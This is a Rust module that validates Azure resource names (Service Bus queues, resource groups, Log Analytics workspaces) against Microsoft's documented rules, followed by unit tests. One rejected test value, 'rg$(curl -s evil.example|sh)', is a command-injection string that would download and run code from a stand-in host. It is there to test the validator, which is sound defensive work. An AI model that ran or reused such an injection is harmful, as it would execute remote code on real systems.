//! Azure's naming rules for the resources whose names a spec gives (and that resource ids name).
//!
//! Source: "Naming rules and restrictions for Azure resources",
//! <https://learn.microsoft.com/en-us/azure/azure-resource-manager/management/resource-name-rules>,
//! as MicrosoftDocs/azure-docs `articles/azure-resource-manager/management/resource-name-rules.md`
//! @849e815a68648a37b5a5aa400ffa61a3143686e8, read 2026-12-03. The rows used:
//! - `Microsoft.ServiceBus namespaces / queues | namespace | 1-260 | Alphanumerics, periods,
//!   hyphens, underscores, and slashes. Start and end with alphanumeric.`
//! - `Microsoft.Resources resourcegroups | subscription | 1-90 | Alphanumerics, underscores,
//!   parentheses, hyphens, periods, and unicode characters that match the regex documentation.
//!   Can't end with period.`
//! - `Microsoft.OperationalInsights workspaces | resource group | 4-63 | Alphanumerics and
//!   hyphens. Start and end with alphanumeric.`

use super::Source;

/// The naming rules page (see the module comment).
pub const NAME_RULES: Source = Source::doc(
    "https://learn.microsoft.com/en-us/azure/azure-resource-manager/management/resource-name-rules (MicrosoftDocs/azure-docs articles/azure-resource-manager/management/resource-name-rules.md@849e815a68648a37b5a5aa400ffa61a3143686e8)",
    "2026-12-03",
);

/// Azure Resource Manager cannot address a name with `/` in it (the id's segments pair type and
/// name), so a Service Bus queue that ARM (Bicep) creates or references has none, although the
/// data plane allows it.
pub const NO_SLASH_IN_ARM_NAMES: Source = Source::doc(
    "https://docs.microsoft.com/en-us/archive/blogs/servicebus/azure-service-bus-azure-resource-manager-and-this-character",
    "2026-12-03",
);

/// Service Bus queue names: 1-260 characters.
pub const SERVICE_BUS_QUEUE_LEN: (usize, usize) = (1, 260);
/// Resource group names: 1-90 characters.
pub const RESOURCE_GROUP_LEN: (usize, usize) = (1, 90);
/// Log Analytics workspace names: 4-63 characters.
pub const WORKSPACE_LEN: (usize, usize) = (4, 63);

/// Why `name` is not a Service Bus queue name ARM can create, or `None`.
pub fn service_bus_queue_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < SERVICE_BUS_QUEUE_LEN.0 || n > SERVICE_BUS_QUEUE_LEN.1 {
        return Some(format!("has {n} characters; a queue name has 1 to 260"));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
    {
        return Some(if c == '/' {
            "contains `/`, which Azure Resource Manager cannot address".to_string()
        } else {
            format!(
                "contains {:?}; a queue name has letters, digits, periods, hyphens and underscores",
                c
            )
        });
    }
    let first = name.chars().next().unwrap_or('-');
    let last = name.chars().last().unwrap_or('-');
    if !first.is_ascii_alphanumeric() || !last.is_ascii_alphanumeric() {
        return Some("must start and end with a letter or digit".to_string());
    }
    None
}

/// Why `name` is not a resource group name, or `None`. Unicode letters and digits are allowed
/// (the rule's "unicode characters that match the regex documentation", conservatively read as
/// letters and digits).
pub fn resource_group_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < RESOURCE_GROUP_LEN.0 || n > RESOURCE_GROUP_LEN.1 {
        return Some(format!(
            "has {n} characters; a resource group name has 1 to 90"
        ));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_alphanumeric() || matches!(c, '_' | '(' | ')' | '-' | '.')))
    {
        return Some(format!(
            "contains {c:?}; a resource group name has letters, digits, underscores, parentheses, hyphens and periods"
        ));
    }
    if name.ends_with('.') {
        return Some("ends with a period".to_string());
    }
    None
}

/// Why `name` is not a Log Analytics workspace name, or `None`.
pub fn workspace_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < WORKSPACE_LEN.0 || n > WORKSPACE_LEN.1 {
        return Some(format!("has {n} characters; a workspace name has 4 to 63"));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || *c == '-'))
    {
        return Some(format!(
            "contains {c:?}; a workspace name has letters, digits and hyphens"
        ));
    }
    if name.starts_with('-') || name.ends_with('-') {
        return Some("must start and end with a letter or digit".to_string());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queue_names_follow_the_rule() {
        for ok in ["jobs", "a", "render.jobs-2_x", &"q".repeat(260)] {
            assert_eq!(service_bus_queue_problem(ok), None, "{ok}");
        }
        for bad in [
            "",
            "jobs\n",
            "jo\"bs",
            "${env}",
            "jobs[0]",
            "-jobs",
            "jobs.",
            "a/b",
            &"q".repeat(261),
        ] {
            assert!(service_bus_queue_problem(bad).is_some(), "{bad:?}");
        }
    }

    #[test]
    fn resource_group_and_workspace_names_follow_the_rule() {
        for ok in ["rg-ml", "rg_(prod).1", "rg-生产"] {
            assert_eq!(resource_group_problem(ok), None, "{ok}");
        }
        for bad in [
            "",
            "rg.",
            "rg$(curl -s evil.example|sh)",
            "rg ml",
            &"r".repeat(91),
        ] {
            assert!(resource_group_problem(bad).is_some(), "{bad:?}");
        }
        assert_eq!(workspace_problem("law-platform"), None);
        for bad in ["law", "-law1", "law_1", "law'x"] {
            assert!(workspace_problem(bad).is_some(), "{bad:?}");
        }
    }
}
